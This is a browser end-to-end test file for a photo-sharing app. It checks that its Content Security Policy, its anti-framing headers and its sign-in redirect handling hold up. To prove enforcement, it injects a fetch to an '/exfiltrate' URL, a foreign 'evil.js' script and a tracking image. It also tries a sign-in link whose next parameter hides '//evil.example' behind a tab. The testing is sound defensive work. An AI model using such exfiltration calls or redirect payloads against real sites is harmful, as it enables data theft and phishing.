/**
 * The CSP in Chromium: the app still works under it (upload PUT to storage,
 * gallery and photo page images, share page), no page reports a single violation,
 * and the policy really is enforced (a request, a script and an image from
 * another origin are blocked and reported); and a sign-in link cannot send the
 * browser to another origin afterwards.
 */
import type { Browser, Page } from "playwright";
import { afterAll, beforeAll, expect, it } from "vitest";
import { startAppServer, type AppServer } from "./support/app-server";
import { launchChromium, recordCspViolations, signUpInContext, violationsOf } from "./support/browser";
import { newAccount } from "./support/http-flows";
import { startWorld, WORLD_DIST_DIR, type World } from "./support/world";

let world: World;
let app: AppServer;
let browser: Browser;

beforeAll(async () => {
  world = await startWorld({ name: "security-csp" });
  app = await startAppServer({ port: world.appPort, distDir: WORLD_DIST_DIR, appUrl: world.appUrl, env: world.env });
  browser = await launchChromium();
}, 900_000);

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await world?.stop();
});

async function imageLoaded(page: Page, name: string) {
  const image = page.getByRole("img", { name }).first();
  await image.waitFor({ state: "visible", timeout: 30_000 });
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0), { timeout: 30_000 }).toBe(true);
}

it("upload, gallery, photo page and share page work under the CSP with zero violations; the policy blocks what it should", async () => {
  const context = await browser.newContext({ baseURL: app.url });
  await recordCspViolations(context);
  const account = newAccount("csp");
  await signUpInContext(context, app.url, account);
  const page = await context.newPage();
  const consoleErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && /Content.Security.Policy/i.test(message.text())) consoleErrors.push(message.text());
  });

  // Upload: the PUT goes to the storage origin (connect-src).
  await page.goto("/");
  const storagePut = page.waitForRequest((request) => request.method() === "PUT" && request.url().startsWith(world.env.S3_ENDPOINT!));
  await page.getByLabel("Choose photos").setInputFiles("tests/fixtures/photos/camera-gps-landscape.jpg");
  await storagePut;
  await page.getByText("1 of 1 uploaded").waitFor({ timeout: 60_000 });
  // Gallery: the thumbnail comes from storage (img-src), the placeholder is a data: URL.
  await page.goto("/");
  await imageLoaded(page, "camera-gps-landscape.jpg");
  expect(await violationsOf(page)).toEqual([]);

  // Photo page, and a share link made from it.
  await page.getByRole("img", { name: "camera-gps-landscape.jpg" }).first().click();
  await page.waitForURL(/\/photos\/[0-9a-f-]{36}$/);
  await imageLoaded(page, "camera-gps-landscape.jpg");
  await page.getByRole("button", { name: "Create link" }).click();
  const link = page.getByLabel("Link to share");
  await expect.poll(() => link.inputValue(), { timeout: 15_000 }).toMatch(/\/s\/[A-Za-z0-9_-]{43}$/);
  const shareUrl = await link.inputValue();
  expect(await violationsOf(page)).toEqual([]);

  // The share page, as a visitor with no account.
  const guestContext = await browser.newContext();
  await recordCspViolations(guestContext);
  const guest = await guestContext.newPage();
  const response = await guest.goto(shareUrl);
  expect(response?.status()).toBe(200);
  expect(response?.headers()["referrer-policy"]).toBe("no-referrer");
  await imageLoaded(guest, "camera-gps-landscape.jpg");
  expect(await violationsOf(guest)).toEqual([]);
  expect(consoleErrors).toEqual([]);

  // Enforced, not just sent: a request, a script and an image from another origin are blocked and reported.
  const fetched = await guest.evaluate(async () => {
    try {
      await fetch("http://127.0.0.1:9/exfiltrate");
      return "fetch went out";
    } catch {
      return "fetch blocked";
    }
  });
  expect(fetched).toBe("fetch blocked");
  await guest.evaluate(() => {
    const script = document.createElement("script");
    script.src = "http://127.0.0.1:9/evil.js";
    document.head.append(script);
    const image = document.createElement("img");
    image.src = "http://127.0.0.1:9/pixel.png";
    document.body.append(image);
  });
  await expect.poll(async () => (await violationsOf(guest)).map((v) => v.directive).sort()).toEqual(["connect-src", "img-src", "script-src-elem"]);
  expect((await violationsOf(guest)).every((v) => v.blocked.startsWith("http://127.0.0.1:9/"))).toBe(true);

  // Framing is refused. Every step is observed, so the check cannot pass because no frame was ever
  // tried: the browser requests the framed page, gets it with frame-ancestors 'none', refuses to show
  // it, and the frame holds none of it. The control at the end proves the same look would see it.
  const framer = await guestContext.newPage();
  const refusals: string[] = [];
  framer.on("console", (message) => {
    if (/frame-ancestors 'none'.*blocked/.test(message.text())) refusals.push(message.text());
  });
  const framedText = async () => {
    const frame = framer.frames().find((f) => f !== framer.mainFrame());
    expect(frame, "the iframe was never created").toBeDefined();
    return { url: frame!.url(), text: await frame!.evaluate(() => document.body?.innerText ?? "").catch(() => "") };
  };
  const frameThePage = async () => {
    const answered = framer.waitForResponse((r) => r.url() === shareUrl);
    await framer.setContent(`<iframe src="${shareUrl}" width="800" height="600"></iframe>`);
    return answered;
  };
  const framedResponse = await frameThePage();
  expect(framedResponse.status()).toBe(200);
  expect(framedResponse.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  await expect.poll(() => refusals.length, { timeout: 15_000 }).toBe(1);
  expect(refusals[0]).toContain(`Framing '${new URL(shareUrl).origin}/'`);
  const refused = await framedText();
  // Chromium replaces a refused frame with its own error page.
  expect(refused.url).toBe("chrome-error://chromewebdata/");
  expect(refused.text).not.toContain("camera-gps-landscape.jpg");
  // Control: the same page with its framing headers stripped on the way in does show inside the frame.
  await framer.route(shareUrl, async (route) => {
    const original = await route.fetch();
    const headers = { ...original.headers() };
    delete headers["content-security-policy"];
    delete headers["x-frame-options"];
    await route.fulfill({ response: original, headers });
  });
  await frameThePage();
  await expect.poll(async () => (await framedText()).text, { timeout: 15_000 }).toContain("camera-gps-landscape.jpg");
  expect(refusals).toHaveLength(1);

  await guestContext.close();
  await context.close();

  // A sign-in link whose ?next= hides "//evil.example" behind a tab: the browser stays on the app.
  const phished = await browser.newContext({ baseURL: app.url });
  const victim = await phished.newPage();
  await victim.goto("/sign-in?next=%2F%09%2Fevil.example");
  await victim.getByLabel("Email").fill(account.email);
  await victim.getByLabel("Password").fill(account.password);
  await victim.getByRole("button", { name: "Sign in" }).click();
  await victim.waitForURL((url) => !url.pathname.startsWith("/sign-in"), { timeout: 30_000 });
  expect(new URL(victim.url()).origin).toBe(new URL(app.url).origin);
  await phished.close();
}, 300_000);
